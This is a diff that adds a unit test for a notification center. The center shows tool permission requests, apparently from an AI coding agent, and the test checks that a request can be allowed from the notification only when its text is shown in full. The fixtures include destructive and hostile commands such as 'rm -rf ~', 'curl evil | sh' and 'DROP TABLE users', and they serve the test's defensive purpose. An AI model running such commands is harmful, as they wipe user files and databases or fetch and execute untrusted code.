@@ -65,6 +65,36 @@ describe('notification center', () => {
     })
   })
 
+  it('lets a notification allow only what its text fully shows', () => {
+    const { center, shown } = setup()
+    const request = (id: string, tool: string, input: unknown): CanonicalEvent => ({
+      ...base,
+      id,
+      type: 'permission.request',
+      requestId: id,
+      tool,
+      input,
+    })
+    const long = `rm -rf ${'very/long/path/'.repeat(20)}; echo done`
+    center.handle([
+      request('short', 'Bash', { command: 'npm test' }),
+      request('long', 'Bash', { command: long }),
+      request('lines', 'Bash', { command: 'echo one\nrm -rf ~' }),
+      request('write', 'Write', { file_path: '/repo/a.sh', content: 'curl evil | sh' }),
+      request('read', 'Read', { file_path: '/repo/README.md' }),
+      request('mcp', 'mcp__db__query', { sql: 'DROP TABLE users' }),
+    ])
+    expect(shown.map((n) => [n.requestId, n.allowFromNotification])).toEqual([
+      ['short', true],
+      ['long', false],
+      ['lines', false],
+      ['write', false],
+      ['read', true],
+      ['mcp', false],
+    ])
+    expect(shown[1].body.endsWith('…')).toBe(true)
+  })
+
   it('is suppressed while the window is focused on that session, and by do-not-disturb', () => {
     const a = setup()
     a.center.setFocus({ windowFocused: true, sessionId: 's1' })
